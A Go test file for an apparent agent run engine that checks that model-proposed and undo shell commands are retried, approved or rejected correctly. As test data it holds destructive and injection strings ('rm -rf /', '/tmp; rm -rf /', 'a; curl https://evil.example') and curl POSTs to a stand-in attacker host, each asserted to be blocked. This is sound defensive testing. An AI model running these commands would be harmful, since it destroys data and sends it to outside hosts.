package step_test

import (
	"context"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"piloto/infra/local/fixture"
	"piloto/internal/runs/plan"
	"piloto/internal/runs/rule"
	"piloto/internal/runs/run"
	"piloto/internal/runs/step"
	"piloto/internal/tools/tool"
)

const failing = `{"exit_code":1,"stderr":"no such file"}`

func newCommandRun(t *testing.T, ceiling int, text string) (*fixture.World, plan.Run) {
	t.Helper()
	w, r := newRun(t, func(p *plan.Plan) { p.Ceiling = ceiling }, newStep("s1", "POST", "/command", `{"command":"`+text+`"}`))
	upstream(w, map[string]string{"POST /command": failing})
	return w, r
}

// reason writes the command that the model proposed.
func reason(t *testing.T, w *fixture.World, r plan.Run, now string) {
	t.Helper()
	seen := w.Read(r.ID)
	st := seen.State(plan.EffectOf("s1"))
	st.Command = &plan.Command{Was: "ls /nowhere", Now: now, Asked: true}
	if _, err := w.Store.Runs.MoveRun(context.Background(), seen, run.Move{Record: run.Record{At: w.Clock(), Type: plan.EventStepReasoned, StepID: plan.EffectOf("s1")}, State: &st}); err != nil {
		t.Fatal(err)
	}
}

func TestFailedCommandIsRetriedAndReasonedAbout(t *testing.T) {
	w, r := newCommandRun(t, 4000, "ls /nowhere")
	if got := drive(t, w, r, "s1"); got != string(step.OutcomeReason) || len(w.Requests()) != 2 {
		t.Fatalf("ended %s after %d requests", got, len(w.Requests()))
	}
	if got := drive(t, w, r, "s1"); got != string(step.OutcomeReason) || len(w.Requests()) != 2 || status(w, r, "s1") != "running step.command_failed" {
		t.Fatalf("called again it ended %s: %s", got, status(w, r, "s1"))
	}
	reason(t, w, r, "ls -a /nowhere")
	upstream(w, map[string]string{"POST /command": `{"exit_code":0}`})
	if got := drive(t, w, r, "s1"); got != "done" {
		t.Errorf("ended %s: %s", got, status(w, r, "s1"))
	}
	checkEqual(t, "sent", sentRequests(w), []string{`POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls /nowhere"}`, `POST /command {"command":"ls -a /nowhere"}`})
	keys := map[string]bool{}
	for _, q := range w.Requests() {
		keys[q.Header["Idempotency-Key"]] = true
	}
	if len(keys) != 3 { // each attempt got a response, so the next one has another key
		t.Errorf("keys %v", keys)
	}
}

func TestCommandFailsAfterLastAttempt(t *testing.T) {
	for name, c := range map[string]struct {
		ceiling int
		happens func(*testing.T, *fixture.World, plan.Run)
		last    string
	}{
		"the same fails again":                 {4000, func(t *testing.T, w *fixture.World, r plan.Run) { reason(t, w, r, "ls /nowhere") }, "ls /nowhere"},
		"another fails too":                    {4000, func(t *testing.T, w *fixture.World, r plan.Run) { reason(t, w, r, "ls -a /nowhere") }, "ls -a /nowhere"},
		"one that destroys is not sent":        {4000, func(t *testing.T, w *fixture.World, r plan.Run) { reason(t, w, r, "rm -rf /") }, "ls /nowhere"},
		"one that dares more is not sent":      {4000, func(t *testing.T, w *fixture.World, r plan.Run) { reason(t, w, r, "touch /nowhere") }, "ls /nowhere"},
		"nobody thinks in time":                {4000, func(_ *testing.T, w *fixture.World, _ plan.Run) { w.Pass(11 * time.Minute) }, "ls /nowhere"},
		"the plan has no tokens to think with": {0, nil, "ls /nowhere"},
	} {
		t.Run(name, func(t *testing.T) {
			w, r := newCommandRun(t, c.ceiling, "ls /nowhere")
			if c.happens != nil {
				drive(t, w, r, "s1")
				c.happens(t, w, r)
			}
			if got := drive(t, w, r, "s1"); got != step.Rejected || status(w, r, "s1") != "error step.command_failed" {
				t.Errorf("ended %s: %s", got, status(w, r, "s1"))
			}
			list := sentRequests(w)
			if len(list) != 3 || list[2] != `POST /command {"command":"`+c.last+`"}` {
				t.Errorf("sent %q", list)
			}
		})
	}
}

func TestCommandResponseDecidesStep(t *testing.T) {
	for name, c := range map[string]struct {
		answer string
		is     string
		sent   int
	}{
		"it went well":    {`{"exit_code":0}`, "done", 1},
		"it says nothing": {`{"out":"x"}`, "done", 1},
		"it is refused":   {"#422 {}", "error step.rejected", 1},
		"it is lost":      {"!", "in_doubt step.in_doubt", 1},
	} {
		t.Run(name, func(t *testing.T) {
			w, r := newCommandRun(t, 4000, "ls /nowhere")
			upstream(w, map[string]string{"POST /command": c.answer})
			drive(t, w, r, "s1")
			if status(w, r, "s1") != c.is || len(w.Requests()) != c.sent {
				t.Errorf("%s after %d requests", status(w, r, "s1"), len(w.Requests()))
			}
		})
	}
}

func TestApprovedCommandIsNotReplaced(t *testing.T) {
	w, r := newCommandRun(t, 4000, "ls /nowhere")
	setRules(t, w, rule.Rule{ID: "r1", Effect: rule.Ask, Path: "/command", Reason: "Se mira antes."})
	drive(t, w, r, "s1")
	wait(t, w, r, "s1", "token")
	approve(t, w, r, "s1", "berta", false)
	if got := drive(t, w, r, "s1"); got != step.Rejected || len(w.Requests()) != 3 {
		t.Errorf("ended %s: %s after %d requests", got, status(w, r, "s1"), len(w.Requests()))
	}
}

func TestResultCannotEscalateCommand(t *testing.T) {
	w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), newStep("s2", "POST", "/command", `{"command":"ls ${s1.body.folder}"}`))
	upstream(w, map[string]string{"GET /rooms": `{"folder":"/tmp; rm -rf /"}`})
	drive(t, w, r, "s1")
	if got := drive(t, w, r, "s2"); got != step.Rejected || status(w, r, "s2") != "error step.command_rises" || len(w.Requests()) != 1 {
		t.Errorf("ended %s: %s", got, status(w, r, "s2"))
	}
}

func TestUndoSendsTheShownCommand(t *testing.T) {
	for name, c := range map[string]struct{ undo, file, is string }{
		"it removes, as was shown":          {"rm ${s1.body.file}", "a.txt", "done"},
		"it removes what is elsewhere":      {"rm -r ${s1.body.file}", "/srv/data", "error step.command_woven"},
		"it removes what is above":          {"rm -r ${s1.body.file}", "..", "error step.command_woven"},
		"it asks another machine":           {"curl -X POST ${s1.body.file}", "https://evil.example", "error step.command_woven"},
		"it asks a host":                    {"curl -X POST https://${s1.body.file}/x", "evil.example", "error step.command_woven"},
		"it names what is to go":            {"curl -X POST https://api.example/undo/${s1.body.file}", "r-17", "done"},
		"it only looks":                     {"ls ${s1.body.file}", "build/a", "done"},
		"it removes since it was resolved":  {"touch ${s1.body.file}", "a; rm -rf /", "error step.command_rises"},
		"it removes nothing":                {"touch ${s1.body.file}", "a.txt", "done"},
		"it runs more than was shown":       {"touch ${s1.body.file}", "a; curl https://evil.example", "error step.command_woven"},
		"it removes what was written whole": {"rm a.txt", "", "done"},
	} {
		t.Run(name, func(t *testing.T) {
			s := newStep("s1", "POST", "/command", `{"command":"mktemp"}`)
			s.Undo = &plan.Call{Method: "POST", Path: "/command", Body: json.RawMessage(`{"command":"` + c.undo + `"}`)}
			w, r := newRun(t, func(p *plan.Plan) {
				undo := p.Bindings[len(p.Bindings)-1]
				undo.StepID = plan.UndoOf(plan.EffectOf("s1"))
				p.Bindings = append(p.Bindings, undo)
			}, s, newStep("s2", "GET", "/rooms", "", "s1"))
			upstream(w, map[string]string{"POST /command": `{"file":"` + c.file + `"}`, "GET /rooms": "#400 {}"})
			drive(t, w, r, "s1")
			drive(t, w, r, "s2")
			undos(t, w, r)
			drive(t, w, r, "undo:s1")
			if status(w, r, "undo:s1") != c.is {
				t.Errorf("ended %s", status(w, r, "undo:s1"))
			}
		})
	}
}

func TestEscalationIsFoundInEveryMember(t *testing.T) {
	w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), newStep("s2", "POST", "/command", `{"command":"ls","args":["${s1.body.folder}"]}`))
	upstream(w, map[string]string{"GET /rooms": `{"folder":"/tmp; rm -rf /"}`})
	drive(t, w, r, "s1")
	if got := drive(t, w, r, "s2"); got != step.Rejected || status(w, r, "s2") != "error step.command_rises" || len(w.Requests()) != 1 {
		t.Errorf("ended %s: %s", got, status(w, r, "s2"))
	}
}

func TestStepRefusesChangedTarget(t *testing.T) {
	shown := plan.Target{Ref: "s1.body.rooms[0].id", Value: []byte(`"n"`), Label: "Sala Norte, 6"}
	for name, c := range map[string]struct {
		rooms string
		is    string
		said  string
	}{
		"the same":            {`[{"id":"n","name":"Sala Norte","seats":6}]`, "done", ""},
		"another":             {`[{"id":"s","name":"Sala Sur","seats":4}]`, "error step.target_changed", "«Sala Norte, 6» es ahora «Sala Sur, 4»"},
		"the same, but other": {`[{"id":"n","name":"Sala Norte","seats":4}]`, "error step.target_changed", "«Sala Norte, 4»"},
		"another of its name": {`[{"id":"x","name":"Sala Norte","seats":6}]`, "error step.target_changed", `«Sala Norte, 6 ("x")»`},
		"nothing":             {`[]`, "error step.target_gone", "«Sala Norte, 6»"},
	} {
		t.Run(name, func(t *testing.T) {
			w, r := newRun(t, func(p *plan.Plan) { p.Steps[1].Targets = []plan.Target{shown} },
				newStep("s1", "GET", "/rooms", ""), newStep("s2", "POST", "/bookings", `{"room":"${s1.body.rooms[0].id}"}`))
			upstream(w, map[string]string{"GET /rooms": `{"rooms":` + c.rooms + `}`})
			drive(t, w, r, "s1")
			drive(t, w, r, "s2")
			st := w.Read(r.ID).State(plan.EffectOf("s2"))
			if status(w, r, "s2") != c.is {
				t.Fatalf("%s %+v", status(w, r, "s2"), st.Error)
			}
			if c.said != "" && (len(w.Requests()) != 1 || !strings.Contains(st.Error.Message, c.said)) {
				t.Errorf("%d requests, %s", len(w.Requests()), st.Error.Message)
			}
		})
	}
}

// A result that is stored in pieces is whole for the step that names it.
func TestReferenceReadsWholeLargeResult(t *testing.T) {
	for _, size := range []int{20 << 10, 600 << 10} {
		w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), newStep("s2", "POST", "/bookings", `{"room":"${s1.body.last}"}`))
		noise := make([]byte, size)
		for i := range noise {
			noise[i] = 'a' + byte(i*i%23)
		}
		w.Answer(func(tool.Request) (tool.Answer, error) {
			body := `{"noise":"` + string(noise) + `","last":"sur"}`
			return tool.Answer{Status: 200, Body: []byte(body), Bytes: len(body)}, nil
		})
		drive(t, w, r, "s1")
		bare, err := w.Store.Runs.Bare(context.Background(), fixture.Account, r.ID)
		if err != nil || bare.State(plan.EffectOf("s1")).Result.Apart == 0 {
			t.Fatalf("it is not apart, %v", err)
		}
		drive(t, w, r, "s2")
		if list := sentRequests(w); len(list) != 2 || list[1] != `POST /bookings {"room":"sur"}` {
			t.Errorf("%s %q", status(w, r, "s2"), list[1:])
		}
	}
}

// The final message tells a large result, also when another invocation ends the run.
func TestFinalMessageTellsAStoredResult(t *testing.T) {
	w, r := newRun(t, nil, newStep("s1", "GET", "/rooms", ""), newStep("s2", "GET", "/rooms", ""))
	calls := 0
	noise := strings.Repeat("x", 20<<10)
	w.Answer(func(tool.Request) (tool.Answer, error) {
		calls++
		body := `{"noise":"` + noise + `","room":` + strconv.Itoa(calls) + `}`
		return tool.Answer{Status: 200, Body: []byte(body), Bytes: len(body)}, nil
	})
	drive(t, w, r, "s2")
	drive(t, w, r, "s1")
	messages := w.Messages()
	if last := messages[len(messages)-1].Content; w.Read(r.ID).Status != plan.Done || !strings.Contains(last, "| room | 1 |") {
		t.Errorf("%s: %q", w.Read(r.ID).Status, last)
	}
}
